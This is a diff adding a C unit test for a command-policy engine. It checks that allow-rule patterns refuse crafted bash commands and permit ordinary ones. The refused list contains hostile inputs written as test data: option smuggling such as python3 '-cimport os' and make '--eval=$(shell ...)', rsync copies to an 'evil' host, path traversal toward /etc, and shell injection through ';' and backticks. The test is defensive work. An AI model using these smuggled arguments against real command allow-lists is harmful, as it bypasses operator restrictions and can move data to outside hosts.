@@ -1,0 +1,116 @@
+/* What the words of a rule's pattern stand for: a permission never for more than its author reads in it, a restriction for every way to say it. */
+#include "tests/unit/unit.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "base/buf.h"
+#include "base/err.h"
+#include "policy/policy.h"
+
+static const char permits[] =
+	"version: 1\n"
+	"profile: enforce\n"
+	"packs: [core.readonly, core.protected-paths, core.destructive]\n"
+	"rules:\n"
+	"  - id: op\n"
+	"    allow: [\"python3 /opt/app/**\", \"perl /opt/app/*.pl\", \"app-tail -n * /var/log/**\", \"tar -czf /srv/bak/*.tgz /srv/app/**\", \"rsync -a /srv/build/** /srv/app/**\",\n"
+	"            \"vim /srv/app/*\", \"make -C /srv/app *\", \"dd if=/srv/a of=/srv/b/*\", \"watch app-status *\", \"ssh web1 systemctl restart *\", \"git -C /srv/app switch *\",\n"
+	"            \"curl -fsS -o /srv/dl/** http://localhost/*\", \"rm -r /srv/app/**\", \"cp /srv/build/* /srv/app/\", \"chmod 644 /srv/app/*\", \"mkdir -p /srv/app/**\",\n"
+	"            \"app-x /srv/in/**\", \"app-ctl * now\", \"app-e -- *\", \"kill -HUP *\", \"truncate -s * /srv/out/*\", \"app --config=/srv/conf/* start\", \"systemctl restart *\",\n"
+	"            \"timeout 9 python3 /opt/app/*\", \"app-z ~/in/**\", \"git -C /srv/app commit **\", \"docker restart *\", \"mv /srv/app/* /srv/old/\", \"app-log **\",\n"
+	"            \"app-any **/x.conf\", \"git push origin *\", \"apt-get install *\", \"journalctl -u * -f\", \"touch /srv/app/**\", \"rm ~/tmp/*\"]\n";
+
+static const char *const refused[] = {
+	/* a relative word that is no path, or may be none */
+	"cd /opt/app && python3 '-cimport os'", "cd /opt/app && python3 x.py", "cd /opt/app && perl '-esystem(1);#.pl'", "cd /var/log && app-tail -n 5 --exec=/tmp/x",
+	"cd /srv/bak && tar -czf evil:a.tgz /srv/app/x", "cd /srv/bak && tar -czf a=b.tgz /srv/app/x", "cd /srv/app && rsync -a /srv/build/x evil:x", "cd /srv/app && rsync -a /srv/build/x u@evil:x",
+	"cd /srv/app && vim '+!touch x'", "cd /srv/in && app-x --out=y", "cd /srv/in && app-x y", "cd /srv/in && app-x @y", "cd /srv/in && app-x 'http://a/y'",
+	"cd /opt/app && timeout 9 python3 '-cimport os'", "cd /opt/app && timeout 9 python3 x", "cd ~/in && app-z -x", "cd ~/in && app-z x", "cd /srv && app-any -/x.conf",
+	"cd /srv/in && app-x ''", "cd /srv/app && rm -r ''", "cd /srv/app && vim ''",
+	/* a star is no option */
+	"make -C /srv/app '--eval=$(shell touch x)'", "make -C /srv/app -f/tmp/x", "app-ctl -x now", "app-ctl --x now", "app-e * --", "kill -HUP -1", "app-tail -n -5 /var/log/x",
+	"app-e -x", "app-ctl - now", "git push origin --force", "git push origin -f", "apt-get install -oDir=x", "systemctl restart --root=/x", "docker restart -x",
+	/* nor the way out */
+	"dd if=/srv/a of=/srv/b/../../etc/x", "app --config=/srv/conf/../x start", "app-ctl .. now", "app-ctl a:../x now", "app-ctl a,.. now", "rm -r /srv/app/x/..", "rm ~/tmp/..",
+	/* nor shell syntax */
+	"watch app-status '; touch x'", "watch app-status '$(touch x)'", "watch app-status 'a b'", "watch app-status '>x'", "watch app-status '~'", "watch app-status 'a*'",
+	"ssh web1 systemctl restart 'x; y'", "ssh web1 systemctl restart 'x y'", "ssh web1 systemctl restart '`y`'",
+	/* what curl makes of a name; whose option it is */
+	"curl -fsS -o '/srv/dl/#1/x' 'http://localhost/{..}'", "curl -fsS -o '/srv/dl/x#2' http://localhost/x",
+	"cd /srv && git switch -C app main", "git switch -C /srv/app main",
+};
+
+static const char *const permitted[] = {
+	"python3 /opt/app/x.py", "python3 /opt/app/x/y.py", "cd /opt/app && python3 /opt/app/x.py", "perl /opt/app/x.pl", "app-tail -n 5 /var/log/x", "app-tail -n +5 /var/log/a/b.log",
+	"tar -czf /srv/bak/a.tgz /srv/app/x", "cd /srv/bak && tar -czf a.tgz /srv/app/x", "cd /srv && tar -czf bak/a-1.2.tgz app/x", "tar -czf /srv/bak/a:b.tgz /srv/app/x",
+	"rsync -a /srv/build/x /srv/app/x", "cd /srv/build && rsync -a x /srv/app/", "cd /srv && rsync -a build/x app/x", "cd /srv/build && rsync -a ./x /srv/app/x",
+	"make -C /srv/app deploy", "make -C /srv/app x/y.o", "dd if=/srv/a of=/srv/b/x", "dd if=/srv/a of=/srv/b/x..y",
+	"watch app-status web-1", "watch app-status a.b:8080/x", "watch app-status k=v", "ssh web1 systemctl restart nginx", "ssh web1 systemctl restart app@1.service",
+	"git -C /srv/app switch main", "cd /srv && git -C app switch feature/x", "git -C /srv/app switch v1..2", "git -C /srv/app commit -m 'a; b'",
+	"curl -fsS -o /srv/dl/x http://localhost/x", "curl -fsS -o /srv/dl/x/y 'http://localhost/x#1'", "cd /srv/dl && curl -fsS -o x http://localhost/x",
+	"rm -r /srv/app/cache/x", "cd /srv/app && rm -r cache/x", "cd /srv/app && rm -r cache", "cd /srv/app && rm -r ./cache", "cd /srv/app && rm -r .cache", "cd /srv && rm -r app/_x",
+	"cd /srv/app && rm -r 1.2", "cd /srv/app && rm -r -- cache/x", "rm --recursive /srv/app/x", "cp /srv/build/x /srv/app/", "cd /srv/build && cp x /srv/app/",
+	"chmod 644 /srv/app/x", "cd /srv/app && chmod 644 x", "mkdir -p /srv/app/x/y", "cd /srv/app && mkdir -p x/y", "app-x /srv/in/a", "app-x /srv/in/a/b:c", "app-x '/srv/in/a=b'",
+	"app-ctl db now", "app-ctl a.b now", "app-ctl ... now", "app-ctl a..b now", "app-e -- x", "app-e -- -x", "kill -HUP 123", "truncate -s 0 /srv/out/x", "truncate -s -5 /srv/out/x",
+	"cd /srv/out && truncate -s 0 x", "app --config=/srv/conf/x start", "systemctl restart nginx", "systemctl restart app@1", "timeout 9 python3 /opt/app/x", "app-z ~/in/x",
+	"docker restart web", "mv /srv/app/x /srv/old/", "cd /srv/app && mv x /srv/old/", "app-log -x ../y", "app-log", "app-any /srv/x.conf", "app-any ./x.conf", "cd /srv && app-any a/x.conf",
+	"git push origin main", "git push origin HEAD:main", "apt-get install nginx", "apt-get install nginx=1.2-3", "journalctl -u nginx -f", "journalctl -f -u nginx", "touch /srv/app/x",
+	"cd /srv/app && touch x/y", "rm ~/tmp/x", "ls -la /srv", "grep -r x /srv/app",
+};
+
+static struct policy *loaded(const char *text)
+{
+	struct policy *p;
+	struct buf e;
+
+	buf_init(&e, 1 << 20);
+	assert_int_equal(policy_load("test.yaml", text, strlen(text), &p, &e), ERR_OK);
+	buf_free(&e);
+	return p;
+}
+
+/* Tells all that is wrong before it fails. */
+static unsigned ask(struct policy *p, const char *text, bool permit)
+{
+	struct policy_question q = { .kind = QUESTION_EXEC, .text = text, .len = strlen(text), .dialect = DIALECT_BASH };
+	struct policy_answer a;
+	bool wrong;
+
+	assert_int_equal(policy_decide(p, &q, &a), ERR_OK);
+	wrong = permit != (a.verdict == VERDICT_ALLOW);
+	if (wrong)
+		print_error("%s: %s by %s (%s)\n", text, verdict_name(a.verdict), a.rule, a.reason);
+	policy_answer_free(&a);
+	return wrong;
+}
+
+static void ask_all(const char *policy, const char *const *no, size_t nno, const char *const *yes, size_t nyes)
+{
+	struct policy *p = loaded(policy);
+	unsigned wrong = 0;
+
+	for (size_t i = 0; i < nno; i++)
+		wrong += ask(p, no[i], false);
+	for (size_t i = 0; i < nyes; i++)
+		wrong += ask(p, yes[i], true);
+	policy_free(p);
+	assert_int_equal(wrong, 0);
+}
+
+#define COUNT(list) (sizeof(list) / sizeof((list)[0]))
+
+static void permissions_are_for_what_they_say(void **state)
+{
+	(void)state;
+	ask_all(permits, refused, COUNT(refused), permitted, COUNT(permitted));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(permissions_are_for_what_they_say),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
